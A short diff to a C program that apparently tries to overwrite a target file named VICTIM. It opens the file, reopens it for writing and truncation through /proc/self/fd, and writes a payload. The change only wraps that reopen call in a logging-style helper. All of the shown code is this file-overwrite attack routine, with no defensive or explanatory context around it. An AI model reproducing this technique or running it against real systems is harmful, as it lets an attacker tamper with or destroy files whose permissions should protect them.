@@ -5,7 +5,7 @@ static int attempt(int flags) {
   int fd = open(VICTIM, flags);
   if (fd < 0) return 0;
   snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-  int writer = open(path, O_WRONLY | O_TRUNC);
+  int writer = noted(open(path, O_WRONLY | O_TRUNC));
   close(fd);
   write_payload(writer);
   if (writer >= 0) close(writer);
